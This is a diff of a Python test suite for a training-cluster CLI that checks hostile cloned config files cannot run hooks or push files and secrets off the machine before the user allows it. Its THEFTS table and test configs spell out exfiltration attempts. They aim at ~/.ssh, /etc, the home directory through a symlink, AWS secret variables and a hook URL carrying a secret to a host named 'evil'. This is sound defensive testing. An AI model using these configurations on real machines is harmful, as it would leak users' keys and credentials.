@@ -3,16 +3,21 @@
 from __future__ import annotations
 
 import os
+import select
+import shutil
 import signal
+import socket
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
 import typer.main
 
 from dtctl.cli.app import app
+from dtctl.errors import ExitCode
 from tests.desk import Desk, desk
 from tests.hostile.bench import COLOURS, CONTROLS
 from tests.waiting import PATIENCE_S, eventually
@@ -43,6 +48,8 @@ trainer:
   dialect: none
   setup: "RAN/setup"
   TRAINER
+data: {from: payload}
+dirs: {data: ~/.ssh, output: ~/letters}
 hooks:
   words: {run: [sh, -c, "RAN/hook"], on: [succeeded, failed, stopped]}
   script: {run: [./notify.sh], on: [succeeded, failed, stopped]}
@@ -65,13 +72,17 @@ PROGRAMS = (
 )
 MODULES = ("sitecustomize", "usercustomize", "json", "importlib", "yaml", "typing", "site", "dtctl", "nvidia/__init__")
 
+SAVED = Path(__file__).parents[1] / "agent/data/checkpoints/tf1_plain"
+"""Checkpoints that come with the directory."""
+
 SECRET = "theSecretOfTheUser0123456789"
 
 COMMANDS = (
     *("validate", "plan", "plan worker:0", "up --dry-run", "check", "check --deep", "check --local", "check -o json"),
     *("up", "up -q --replace", "up -f", "up -o json", "push", "trust --yes", "explain hang", "schema"),
     *("status", "status -o json", "diagnose", "logs", "logs -n all", "events", "metrics", "dump", "runs", "wait"),
-    *("compare demo-1 demo-2", "data", "drain far", "undrain far", "scale worker=1"),
+    *("compare demo-1 demo-2", "data", "data push", "data push --overwrite", "data drop -y", "checkpoints push saved"),
+    *("checkpoints push saved --into ~/letters", "drain far", "undrain far", "scale worker=1"),
     *("wait -o json", "logs -f", "report -O -", "checkpoints", "checkpoints verify --all", "tensorboard", "dashboard"),
     *("top", "exec @trap -- true", "ssh far true", "init elsewhere", "replace trap far -y", "restart worker:0"),
     *("report", "tensorboard --copy", "stop", "gc --dry-run", "gc -y", "down -y"),
@@ -125,6 +136,9 @@ def plant(home: Desk) -> None:
         _place(home, f"code/{name}").write_text("x")
     for name, text in SECRETS.items():
         _place(home, f"code/{name}").write_text(text % SECRET)
+    _place(home, "payload/authorized_keys").write_text("ssh-ed25519 of the repository\n")
+    _place(home, "payload/rc").write_text(_ran(home, "payload"))
+    shutil.copytree(SAVED, home.project / "saved")
     write_file(home, "of the host")
 
 
@@ -193,8 +207,17 @@ def test_every_command_is_typed_in_the_directory() -> None:
     assert typed == named
 
 
+@pytest.mark.parametrize("way", WAYS_TO_A_PYTHON)
+def test_the_hostile_file_is_valid(home: Desk, way: str) -> None:
+    """A file that is refused would let every test of it pass."""
+    write_file(home, way)
+    done = home.run("validate")
+    assert done.returncode == 0, done.stderr
+
+
 @pytest.mark.parametrize("words", COMMANDS)
 def test_nothing_of_the_directory_runs_and_nothing_outside_of_it_changes(home: Desk, words: str) -> None:
+    write_file(home, "of the host")
     before = snapshot(home.home)
     shown = typed(home, words)
     assert snapshot(home.home) == before
@@ -202,6 +225,64 @@ def test_nothing_of_the_directory_runs_and_nothing_outside_of_it_changes(home: D
     assert not CONTROLS.search(COLOURS.sub("", shown))
     if words == "push":
         assert not [file for file in (home.home / ".dtctl").rglob("*") if holds_secret(file)]
+
+
+SCRIPT = """
+import contextlib, dtctl
+from dtctl import errors
+cluster = dtctl.load()
+cluster.plan()
+def run():
+    return dtctl.attach(cluster)
+calls = (
+    cluster.check, lambda: cluster.check(deep=True), cluster.push, cluster.push_data, cluster.data,
+    lambda: cluster.push_data(overwrite=True), lambda: cluster.data(verify=True),
+    lambda: cluster.push_checkpoint("saved"), lambda: cluster.push_checkpoint("saved", into="~/letters"),
+    lambda: dtctl.up(cluster), lambda: dtctl.up(cluster, replace=True, force=True),
+    lambda: dtctl.replace(cluster, "trap"),
+    lambda: dtctl.runs(cluster), lambda: run().status(), lambda: run().diagnose(), lambda: run().wait(1.0),
+    lambda: run().metrics(), lambda: run().checkpoints(), lambda: list(run().logs()), lambda: run().restart(),
+)
+for call in calls:
+    try:
+        call()
+    except (errors.DtctlError, TimeoutError) as error:
+        print(type(error).__name__, str(error).splitlines()[0])
+"""
+
+
+def test_a_script_that_imports_dtctl_starts_and_writes_nothing_either(home: Desk) -> None:
+    write_file(home, "of the host")
+    before = snapshot(home.home)
+    words = [sys.executable, "-I", "-c", SCRIPT]  # without -I Python imports from this directory
+    done = subprocess.run(
+        words, cwd=home.project, env=home.env, capture_output=True, text=True, check=False, timeout=PATIENCE_S
+    )
+    assert snapshot(home.home) == before
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.count("and you have not allowed it") >= 6, done.stdout
+    assert not CONTROLS.search(done.stdout)
+
+
+def test_data_and_checkpoints_are_written_to_this_machine_only_when_allowed(tmp_path: Path) -> None:
+    with desk(tmp_path / "home", elsewhere=lambda: False) as made:
+        furnish(made)
+        benign(made)
+        (made.project / "cluster.yaml").write_text(f"{BENIGN}data: {{from: payload}}\ndirs: {{data: ~/letters}}\n")
+        _place(made, "payload/two.txt").write_text("x")
+        shutil.copytree(SAVED, made.project / "saved")
+        pushes = ("data push", "checkpoints push saved --into ~/letters")
+        for words in pushes:
+            refused = made.run(*words.split())
+            assert refused.returncode == 5
+            assert "dirs.data: ~/letters" in refused.stderr
+            assert "dtctl allow " in refused.stderr
+        assert [path.name for path in (made.home / "letters").iterdir()] == ["one.txt"]
+        made.allow()
+        for words in pushes:
+            made.dtctl(*words.split())
+        assert (made.home / "letters/two.txt").exists()
+        assert (made.home / "letters/checkpoint").exists()
 
 
 def typed(home: Desk, words: str) -> str:
@@ -272,3 +353,85 @@ def test_a_hook_that_is_not_allowed_is_named_in_one_line_and_runs_when_it_is(tmp
         script.write_text("#!/bin/sh\ntouch ~/ran/other\n")  # as a `git pull` may bring it
         assert "hook script will not run here" in made.run("wait").stderr
         assert not (made.home / "ran/other").exists()
+
+
+LEAVES = """\
+name: demo
+hosts: {evil: {ssh: {target: 127.0.0.1, port: PORT, connect_timeout: 2s}, address: 127.0.0.1}}
+jobs: {worker: {hosts: evil}}
+dirs: {data: /data}
+TRAINER
+DATA
+"""
+TRAINER = "trainer: {code: code, command: [python, train.py], dialect: none}"
+THEFTS = {
+    "the home as data": (TRAINER, "data: {from: ~/}", "data push"),
+    "the home as data, let through by the file": (TRAINER, "data: {from: ~/}\nsend_anywhere: true", "data push"),
+    "the home by a link": (TRAINER, "data: {from: link}", "data push"),
+    "keys as data": (TRAINER, "data: {from: ~/.ssh}", "data push"),
+    "keys by a link": (TRAINER, "data: {from: link/.ssh}\nsend_anywhere: true", "data push"),
+    "the parent of keys": (TRAINER, "data: {from: ~/.config}", "data push"),
+    "documents as data": (TRAINER, "data: {from: ../letters}", "data push"),
+    "documents as code": (TRAINER.replace("code: code", "code: ../letters"), "", "push"),
+    "documents as code of a run": (
+        TRAINER.replace("code: code", "code: ../letters").replace("[python, train.py]", "[cat, one.txt]"),
+        "",
+        "up -q",
+    ),
+    "the system": (TRAINER, "data: {from: /etc}", "data push"),
+    "another project's values": (
+        TRAINER.replace("{code", "{env_file: ../other.env, secrets: [KEY], code"),
+        "",
+        "up -q",
+    ),
+    "values of the environment": (TRAINER.replace("{code", "{secrets: [AWS_SECRET_ACCESS_KEY], code"), "", "up -q"),
+    "values by a hook": (TRAINER, "hooks: {x: {post: 'https://127.0.0.1/${AWS_SECRET_ACCESS_KEY}'}}", "up -q"),
+}
+"""The sections `trainer` and `data` of a cloned file, and the command that its reader types."""
+
+
+@contextmanager
+def receiver() -> Iterator[tuple[int, Callable[[], bool]]]:
+    """A port, and whether a connection to it waits to be accepted."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        yield server.getsockname()[1], lambda: bool(select.select([server], [], [], 0)[0])
+
+
+@contextmanager
+def robbed(place: Path, trainer: str, data: str) -> Iterator[tuple[Desk, Callable[[], bool]]]:
+    """A desk in a cloned directory whose file has these sections, and whether its host has been connected to."""
+    with desk(place / "home", elsewhere=lambda: False) as made, receiver() as (port, is_reached):
+        furnish(made)
+        made.env["AWS_SECRET_ACCESS_KEY"] = SECRET
+        _place(made, "code/train.py").write_text("print('step 1')\n")
+        if "link" in data:
+            (made.project / "link").symlink_to(made.home)
+        (made.home / ".config").mkdir()
+        (made.home / "other.env").write_text(f"KEY={SECRET}\n")
+        text = LEAVES.replace("PORT", str(port)).replace("TRAINER", trainer).replace("DATA", data)
+        (made.project / "cluster.yaml").write_text(text)
+        yield made, is_reached
+
+
+@pytest.mark.parametrize("theft", THEFTS)
+def test_nothing_from_outside_of_the_directory_leaves_before_it_is_allowed(tmp_path: Path, theft: str) -> None:
+    trainer, data, words = THEFTS[theft]
+    with robbed(tmp_path, trainer, data) as (made, is_reached):
+        done = made.run(*words.split())
+        assert done.returncode in (ExitCode.CONFIG, ExitCode.PREFLIGHT), done.stderr
+        assert "and you have not allowed it" in done.stderr or "add send_anywhere: true" in done.stderr
+        assert SECRET not in done.stderr
+        assert not is_reached()
+        if done.returncode == ExitCode.PREFLIGHT:
+            made.dtctl("allow")
+            made.run(*words.split())
+            assert is_reached(), "something else keeps it from being sent"
+
+
+def test_a_check_sends_no_values_and_says_so_until_they_are_allowed(tmp_path: Path) -> None:
+    trainer, data, _ = THEFTS["values of the environment"]
+    with robbed(tmp_path, trainer, data) as (made, _):
+        line = "checked without the values of secrets, as you have not allowed it to send them: dtctl allow"
+        assert line in made.run("check").stderr
+        made.dtctl("allow")
+        assert line not in made.run("check").stderr
